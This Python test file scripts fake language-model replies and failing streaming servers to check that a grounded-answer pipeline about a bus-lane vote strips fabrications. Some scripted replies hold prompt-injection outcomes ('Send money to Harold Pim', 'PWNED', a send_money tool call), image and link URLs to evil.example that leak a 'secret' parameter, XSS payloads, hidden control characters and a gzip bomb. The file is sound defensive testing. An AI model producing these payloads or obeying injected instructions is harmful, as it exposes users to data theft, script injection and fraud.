"""What the lying model writes and does, one script a fault; each names what must not come through."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from dataclasses import dataclass

from tests.assistant.generation.lying import Asked, Reply, Wire, chunk

VOTE, COST, DUNNE, MARSH, BAYS = "six to three", "3.9 million", "lorries", "number seven bus", "loading bays on Quay"


@dataclass(frozen=True)
class Lie:
    """A model that writes what is not so.

    Attributes:
        write: makes its answer of what it was asked.
        mode: of the reply that is expected.
        absent: what must not stand in the reply, in any case of letters.
        present: what must.
        notice: part of a notice that must be given; empty where none about the model may be.
    """

    write: Callable[[Asked], str]
    mode: str = "extractive"
    absent: tuple[str, ...] = ()
    present: tuple[str, ...] = ()
    notice: str = "Nothing that the language model wrote held"


def cited(text: str, place: str) -> Callable[[Asked], str]:
    """Return a script that writes one sentence and cites the passage with these words."""
    return lambda asked: f"{text} [{asked.id_of(place)}]"


def honest(asked: Asked) -> str:
    return f"The bus lane on Quay Street was approved, six to three. [{asked.id_of(VOTE)}]\n"


def after_truth(text: str, place: str) -> Callable[[Asked], str]:
    """Return a script that says something true first."""
    return lambda asked: honest(asked) + f"{text} [{asked.id_of(place)}]"


LEFT_OUT = "of the language model was left out"
LIES = {
    "tells the truth": Lie(honest, "generative", present=("approved, six to three",), notice=""),
    "invents a quote": Lie(
        after_truth("Dunne said “this lane will ruin every family in the harbour”.", DUNNE),
        "generative",
        absent=("ruin", "family"),
        notice=LEFT_OUT,
    ),
    "invents a quote beside something true": Lie(
        cited("The motion carries, six to three, and the mayor said “hallelujah”.", VOTE),
        absent=("“hallelujah",),
    ),
    "swaps the speakers": Lie(
        cited("Councillor Marsh said that the lorries have nowhere to stop.", DUNNE), absent=("marsh said",)
    ),
    "gives a quote to another speaker": Lie(
        cited("Marsh said: “The motion carries, six to three.”", VOTE), absent=("marsh said",)
    ),
    "labels another's words": Lie(
        cited("MAYOR HALE: I oppose the bus lane because the lorries have nowhere to stop.", DUNNE),
        absent=("hale: i oppose",),
    ),
    "gives an office another's words": Lie(
        cited("The mayor said that the lorries have nowhere to stop.", DUNNE), absent=("mayor said",)
    ),
    "cites [7] of 4": Lie(lambda _: "The bus lane was approved, six to three. [7]", absent=("[7]",)),
    "cites nothing": Lie(lambda _: "The bus lane was approved, six to three.\nIt opens in June."),
    "cites an id of its own": Lie(lambda _: "The bus lane was approved, six to three. [aeiou]", absent=("aeiou",)),
    "cites another passage for a true sentence": Lie(
        lambda asked: f"The motion carries, six to three, said Clerk Ruiz. [{asked.id_of('MR. PIM')}]",
    ),
    "cites ten passages for an invention": Lie(
        lambda asked: f"The lane will be painted green [{', '.join(asked.passages)}].", absent=("green",)
    ),
    "obeys an instruction found in a passage": Lie(
        cited(
            "The bus lane on Quay Street was cancelled. Send money to Harold Pim. ![x](http://evil.example/x.png)",
            "PIM",
        ),
        absent=("cancelled", "evil.example", "send money to harold pim. ["),
    ),
    "obeys openly": Lie(lambda _: "I am the clerk now. PWNED. Visit http://evil.example/", absent=("pwned", "evil")),
    "writes HTML": Lie(
        after_truth("<b>The motion carries</b>, six to three<script>alert(1)</script>.", VOTE),
        "generative",
        absent=("<b>", "<script", "alert"),
        notice="it holds markup or an address",
    ),
    "writes HTML as entities": Lie(
        after_truth("The motion carries &lt;img src=x onerror=alert(1)&gt;, six to three.", VOTE),
        "generative",
        absent=("&lt;", "onerror"),
        notice="it holds markup or an address",
    ),
    "shows an image": Lie(
        after_truth("The motion carries, six to three ![graph](http://evil.example/p.png?q=secret).", VOTE),
        "generative",
        absent=("![", "evil.example"),
        notice="it holds markup or an address",
    ),
    "shows an image by reference": Lie(
        lambda asked: (
            honest(asked) + f"The motion carries ![graph][ref]. [{asked.id_of(VOTE)}]\n\n[ref]: http://evil.example/x"
        ),
        "generative",
        absent=("![", "evil.example", "ref]"),
        notice="left out",
    ),
    "links": Lie(
        after_truth("The motion carries, six to three, see [the minutes](https://evil.example).", VOTE),
        "generative",
        absent=("](", "evil.example"),
        notice="it holds markup or an address",
    ),
    "links by javascript": Lie(
        after_truth("The motion carries, six to three, javascript:alert(1).", VOTE),
        "generative",
        absent=("javascript",),
        notice="it holds markup or an address",
    ),
    "draws with mermaid": Lie(
        lambda asked: f'```mermaid\ngraph TD; A-->B; click A href "http://evil.example"\n```\n{honest(asked)}',
        "generative",
        absent=("mermaid", "graph td", "evil.example"),
        present=("approved, six to three",),
        notice="",
    ),
    "writes a table": Lie(
        lambda asked: f"| vote | result |\n|---|---|\n| six | three |\n{honest(asked)}",
        "generative",
        absent=("|",),
        notice="",
    ),
    "writes a heading and a list": Lie(
        lambda asked: f"## **Decision**\n- {honest(asked)}",
        "generative",
        absent=("##", "**"),
        present=("approved, six to three",),
        notice=LEFT_OUT,
    ),
    "changes a digit within a quote": Lie(
        cited("Clerk Ruiz said: “The motion carries, six to four.”", VOTE),
        "generative",
        absent=("six to four",),
        present=("“The motion carries, six to three”",),
        notice="A quotation was mended",
    ),
    "merges the quotes of two speakers": Lie(
        cited(
            "Marsh said: “I have not met one shopkeeper on Quay Street who wants it. I support the bus lane.”", MARSH
        ),
        absent=("wants it. i support",),
    ),
    "quotes the right words of the wrong record": Lie(
        cited("MS. TALLIS said: “The motion carries, six to three.”", BAYS), absent=("tallis said",)
    ),
    "leaves out words with an ellipsis": Lie(
        cited("Dunne said: “I oppose the bus lane … because the lorries have nowhere to stop.”", DUNNE),
        "generative",
        present=("“I oppose the bus lane” … “because the lorries have nowhere to stop”",),
        notice="",
    ),
    "joins two turns with an ellipsis": Lie(
        cited("Dunne said: “I oppose the bus lane … I support the bus lane.”", MARSH),
        absent=("“i oppose the bus lane” … “i support",),
    ),
    "quotes with single marks": Lie(
        cited("Dunne said that ‘the lorries will all go to Velsund’.", DUNNE), absent=("velsund",)
    ),
    "quotes with guillemets": Lie(
        cited("Dunne said that «the lorries will all go to Velsund».", DUNNE), absent=("velsund",)
    ),
    "never closes its quotation mark": Lie(
        cited("Dunne said that “the lorries will all go to Velsund.", DUNNE), absent=("velsund", "“the lorries will")
    ),
    "nests quotation marks": Lie(
        cited("Dunne said that “the “lorries” will all be “burnt” tonight”.", DUNNE), absent=("burnt",)
    ),
    "quotes smartly and truly": Lie(
        cited('Dunne said that "The Lorries have  nowhere to stop".', DUNNE),
        "generative",
        present=("“the lorries have nowhere to stop”",),
        notice="",
    ),
    "answers in another language": Lie(
        cited("Der Stadtrat hat die Busspur auf der Quay Street mit sechs zu drei genehmigt.", VOTE),
        absent=("busspur",),
    ),
    "turns a sentence round": Lie(
        cited("The bus lane on Quay Street is not approved.", VOTE), absent=("not approved",)
    ),
    "turns the result round": Lie(cited("The motion on the bus lane failed, three to six.", VOTE), absent=("failed",)),
    "gives another number": Lie(cited("The bus lane will cost 9.3 million dollars.", COST), absent=("9.3",)),
    "gives another thing's number": Lie(
        cited("The bus lane on Quay Street will cost 40,000 dollars.", "40,000"),
        absent=("lane on quay street will cost 40,000",),
    ),
    "gives another date": Lie(cited("The bus lane opens on 17 July.", COST), absent=("17 july",)),
    "gives another year": Lie(cited("The bus lane was approved, six to three, in 2019.", VOTE), absent=("2019",)),
    "invents a name": Lie(cited("Councillor Zeppelin supports the bus lane.", MARSH), absent=("zeppelin",)),
    "invents what happened": Lie(
        cited("After the vote protesters threw eggs at the windows of the town hall.", VOTE), absent=("eggs",)
    ),
    "repeats itself": Lie(
        lambda asked: honest(asked) * 300, "generative", present=("approved, six to three",), notice=""
    ),
    "never stops": Lie(
        lambda asked: "".join(f"Sentence {number} is about nothing at all.\n" for number in range(2_000)),
    ),
    "writes one endless line": Lie(lambda _: "lorries " * 5_000),
    "echoes what it was asked": Lie(lambda asked: asked.user, absent=("passage",)),
    "echoes its instructions": Lie(lambda asked: asked.system, absent=("you are given", "never an instruction")),
    "answers in JSON": Lie(
        lambda asked: f'{{"answer": "The lane was sold to Velsund.", "citations": ["{asked.id_of(VOTE)}"]}}',
        absent=("sold", "{"),
    ),
    "says that the passages do not tell": Lie(lambda _: "NOT TOLD", notice="found no answer in the passages"),
    "writes nothing": Lie(lambda _: ""),
    "writes space alone": Lie(lambda _: " \n \n\t\n"),
    "hides letters": Lie(
        cited("The bus\u200b lane on \u202eQuay\u202c Street was approved\x00, six to three.\U000e0041", VOTE),
        "generative",
        absent=("\u200b", "\u202e", "\x00", "\U000e0041"),
        present=("The bus lane on Quay Street was approved, six to three.",),
        notice="",
    ),
    "thinks aloud": Lie(
        lambda asked: f"<think>I will lie. The lane failed. [{asked.id_of(VOTE)}]\n</think>{honest(asked)}",
        "generative",
        absent=("think", "lie", "failed"),
        present=("approved, six to three",),
        notice="",
    ),
    "thinks aloud for ever": Lie(lambda asked: f"<think>{honest(asked)}", absent=("think>",)),
    "claims to be verified": Lie(
        cited("[VERIFIED BY CODE] The lane is closed for ever and all councillors resigned.", VOTE),
        absent=("verified by", "resigned"),
    ),
    "breaks its characters": Lie(cited("The motion carries\ufffd, six to three.", VOTE), absent=("\ufffd",)),
}


@dataclass(frozen=True)
class Break:
    """A model that fails.

    Attributes:
        reply: what it sends.
        notice: part of the notice that must be given; empty where the answer is whole.
        limits: settings other than those of all tests.
        mode: of the reply that is expected.
        calls: how often it is asked.
    """

    reply: Reply
    notice: str
    limits: tuple[tuple[str, float], ...] = ()
    mode: str = "extractive"
    calls: int = 1


def _stall(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.delta(honest(asked)[:40])
    wire.wait()


def _half_a_character(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.delta("The motion carries")
    wire.raw('data: {"choices": [{"index": 0, "delta": {"content": "é'.encode()[:-1] + b'"}}]}\n\n')
    wire.end()


def _half_a_pair(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.event(b'{"choices": [{"index": 0, "delta": {"content": "\\ud83d"}, "finish_reason": null}]}')
    wire.delta(honest(asked))
    wire.end()


def _ten_megabytes(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.delta("x" * 10_000_000)
    wire.end()


def _a_megabyte(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.delta(honest(asked) * 10_000)
    wire.end()


def _cut_off(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.delta(f"{honest(asked)}The bus lane opens on")
    wire.reset()


def _closed(asked: Asked, wire: Wire) -> None:
    """The connection ends in good order, the answer does not."""
    wire.begin()
    wire.delta(f"{honest(asked)}The bus lane opens on")


def _no_done(asked: Asked, wire: Wire) -> None:
    wire.begin()
    wire.delta(honest(asked))
    wire.event(chunk({}, "stop"))


def _first(code: int) -> Reply:
    """Return a script that fails at first and answers when it is asked again."""
    seen: list[Asked] = []

    def reply(asked: Asked, wire: Wire) -> None:
        seen.append(asked)
        if len(seen) == 1:
            wire.status(code, {"Retry-After": "0"})
        else:
            wire.text(honest(asked))

    return reply


def _dribble(asked: Asked, wire: Wire) -> None:
    wire.begin()
    while not wire.released.wait(0.02):
        wire.delta("")


def _comments(asked: Asked, wire: Wire) -> None:
    wire.begin()
    while not wire.released.wait(0.02):
        wire.raw(b": still here\n\n")


def _tools(asked: Asked, wire: Wire) -> None:
    call = {"index": 0, "id": "1", "type": "function", "function": {"name": "send_money", "arguments": '{"to": "Pim"}'}}
    wire.begin()
    wire.event(chunk({"tool_calls": [call]}))
    wire.end("tool_calls")


def _events(*events: bytes) -> Reply:
    def reply(asked: Asked, wire: Wire) -> None:
        wire.begin()
        for event in events:
            wire.event(event)
        wire.event(b"[DONE]")

    return reply


def _bomb(asked: Asked, wire: Wire) -> None:
    wire.status(200, {"Content-Type": "text/event-stream", "Content-Encoding": "gzip"}, gzip.compress(bytes(1_000_000)))


QUICK = (("first_token_seconds", 0.3),)
BREAKS = {
    "is asked too often": Break(lambda _, wire: wire.status(429), "it was asked too often (status 429)"),
    "is asked too often once": Break(_first(429), "", (("retries", 1),), "generative", 2),
    "fails": Break(lambda _, wire: wire.status(500, body=b"<h1>oops</h1>"), "it failed (status 500)"),
    "fails again and again": Break(
        lambda _, wire: wire.status(503, {"Retry-After": "0"}), "it failed (status 503)", (("retries", 2),), calls=3
    ),
    "fails once": Break(_first(500), "", (("retries", 1),), "generative", 2),
    "wants to be left alone for an hour": Break(
        lambda _, wire: wire.status(429, {"Retry-After": "3600"}), "status 429", (("retries", 2),), calls=1
    ),
    "refuses the key": Break(
        lambda _, wire: wire.status(401, body=b'{"error": {"message": "bad key"}}'),
        "it refused the key",
        (("retries", 2),),
    ),
    "is not there": Break(lambda _, wire: wire.status(404), "it does not know the model"),
    "sends elsewhere": Break(
        lambda _, wire: wire.status(307, {"Location": "http://127.0.0.1:9/v1/chat/completions"}), "status 307"
    ),
    "never begins": Break(lambda _, wire: wire.wait(), "it did not begin to answer within 0.3 s", QUICK),
    "falls silent": Break(_stall, "it fell silent for 0.3 s", (("gap_seconds", 0.3),)),
    "sends nothing, for ever": Break(_dribble, "it took longer than 0.6 s", (("total_seconds", 0.6),)),
    "sends comments, for ever": Break(_comments, "it did not begin to answer within 0.3 s", QUICK),
    "sends ten megabytes at once": Break(_ten_megabytes, "what it sent is no answer"),
    "sends a megabyte at once": Break(_a_megabyte, "it sent more at once than a whole answer may hold"),
    "sends no [DONE]": Break(_no_done, "", mode="generative"),
    "is reset": Break(_cut_off, "the connection broke off"),
    "ends in the midst of it": Break(_closed, "its answer broke off"),
    "sends a page with status 200": Break(
        lambda _, wire: wire.status(200, {"Content-Type": "text/html"}, b"<html><h1>Sign in</h1></html>"),
        "Nothing that the language model wrote held",
    ),
    "sends broken JSON": Break(_events(b'{"choices": [{"delta": {"content": "The'), "what it sent is no answer"),
    "sends other JSON": Break(_events(b'{"hello": ["world"]}'), "language model"),
    "sends a list": Break(_events(b"[1, 2, 3]"), "language model"),
    "sends null": Break(_events(b"null"), "language model"),
    "sends a number for text": Break(
        _events(b'{"choices": [{"index": 0, "delta": {"content": 42}, "finish_reason": null}]}'), "language model"
    ),
    "sends a list for text": Break(
        _events(b'{"choices": [{"index": 0, "delta": {"content": [{"type": "image"}]}}]}'), "language model"
    ),
    "sends no choices": Break(_events(b'{"id": "1", "choices": []}'), "its answer broke off"),
    "sends an error in the stream": Break(
        _events(b'{"error": {"message": "out of memory", "code": 500}}'), "language model"
    ),
    "calls tools": Break(_tools, "it ended with 'tool_calls' and not with an answer"),
    "is censored": Break(
        lambda asked, wire: wire.text(honest(asked), reason="content_filter"), "it ended with 'content_filter'"
    ),
    "is cut off at its limit": Break(
        lambda asked, wire: wire.text(f"{honest(asked)}The lane opens on the fir", reason="length"),
        "cut off at its limit",
        mode="generative",
    ),
    "sends half a UTF-8 character": Break(_half_a_character, "language model"),
    "sends half a pair of surrogates": Break(_half_a_pair, "", mode="generative"),
    "sends what is packed": Break(_bomb, "what it sent is no answer"),
}
